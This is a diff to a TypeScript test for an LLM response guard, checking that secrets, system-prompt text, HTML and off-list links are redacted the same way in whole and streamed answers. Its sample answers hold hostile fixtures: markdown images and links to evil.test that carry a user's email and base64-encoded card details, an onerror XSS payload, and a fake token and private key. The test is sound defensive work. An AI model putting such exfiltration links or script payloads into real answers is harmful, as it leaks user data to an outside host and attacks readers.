@@ -594,6 +594,7 @@ spec:
     secrets: { action: redact }
     links: { action: redact, allowHosts: [docs.example.com] }
     systemPromptLeak: { action: redact }
+    html: { action: redact }
 `,
       'p.yaml',
     );
@@ -608,38 +609,49 @@ spec:
         { role: 'user', content: 'Mail alice@example.org please.' },
       ],
     });
-    const answer =
+    const answers = [
       'Done, I wrote to <EMAIL_ADDRESS_1>. Token ghp_4aF9kLm2Qx7Rt1Zb8Vc3Yw6Nd0Hs5Jp2Ke9U is set. ' +
-      'See [the guide](https://docs.example.com/a) and ![x](https://evil.test/p.png?u=<EMAIL_ADDRESS_1>). ' +
-      'My rules: You are Orbit, the support assistant of Acme Rockets. Never discuss launch dates. Bye!';
-    const whole = async (): Promise<string> => {
-      const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
-      await exchange.checkInput();
-      const body: JsonObject = { choices: [{ index: 0, message: { role: 'assistant', content: answer } }] };
-      const result = await guardResponseBody(body, chat(exchange.output));
-      const choices = result.body.choices as { message: { content: string } }[];
-      return choices[0]?.message.content ?? '';
-    };
-    const expected = await whole();
-    assert.ok(expected.includes('alice@example.org') && expected.includes('[image removed]'));
-    assert.ok(!expected.includes('ghp_') && !expected.includes('Never discuss'));
-    let seed = 5;
-    const random = (n: number): number => {
-      seed = (seed * 1103515245 + 12345) % 2 ** 31;
-      return seed % n;
-    };
-    for (let round = 0; round < 60; round++) {
-      const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
-      await exchange.checkInput();
-      const events: SseEvent[] = [];
-      for (let at = 0; at < answer.length;) {
-        const size = 1 + random(12);
-        events.push(openaiChunk(answer.slice(at, at + size)));
-        at += size;
+        'See [the guide](https://docs.example.com/a) and ![x](https://evil.test/p.png?u=<EMAIL_ADDRESS_1>). ' +
+        'My rules: You are Orbit, the support assistant of Acme Rockets. Never discuss launch dates. Bye!',
+      'Visit https://evil.test/c?d=QWxpY2UgU21pdGggb3JkZXIgNDIgY2FyZCA0MjQy, or <a href="https://evil.test/x">this</a>. ' +
+        '<img src=x onerror="alert(1)"> ok ![r][1]\n\n[1]: https://evil.test/t.png\n' +
+        'Key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq98Lh3rWq0nE0y2cT5i9kzX1b4v7QnJm8sR2pW6uYcZd3fHgTaKxLbNeVoPiUjMl\n-----END RSA PRIVATE KEY-----\n' +
+        'and mail <EMAIL_ADDRESS_1> at last.',
+    ];
+    for (const answer of answers) await sameAnswer(answer);
+
+    async function sameAnswer(answer: string): Promise<void> {
+      const whole = async (): Promise<string> => {
+        const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
+        await exchange.checkInput();
+        const body: JsonObject = { choices: [{ index: 0, message: { role: 'assistant', content: answer } }] };
+        const result = await guardResponseBody(body, chat(exchange.output));
+        const choices = result.body.choices as { message: { content: string } }[];
+        return choices[0]?.message.content ?? '';
+      };
+      const expected = await whole();
+      assert.ok(expected.includes('alice@example.org') && !expected.includes('evil.test'));
+      assert.ok(
+        !expected.includes('ghp_') && !expected.includes('Never discuss') && !expected.includes('MIIE'),
+      );
+      let seed = 5;
+      const random = (n: number): number => {
+        seed = (seed * 1103515245 + 12345) % 2 ** 31;
+        return seed % n;
+      };
+      for (let round = 0; round < 60; round++) {
+        const exchange = guard.begin(conversation, { requestId: 'r', identity: 'a' });
+        await exchange.checkInput();
+        const events: SseEvent[] = [];
+        for (let at = 0; at < answer.length;) {
+          const size = 1 + random(12);
+          events.push(openaiChunk(answer.slice(at, at + size)));
+          at += size;
+        }
+        events.push(openaiChunk('', 'stop'), DONE);
+        const out = await collect(guardStream(fromArray(events), chat(exchange.output)));
+        assert.equal(chatContents(out).join(''), expected, `round ${round}`);
       }
-      events.push(openaiChunk('', 'stop'), DONE);
-      const out = await collect(guardStream(fromArray(events), chat(exchange.output)));
-      assert.equal(chatContents(out).join(''), expected, `round ${round}`);
     }
   });
 });
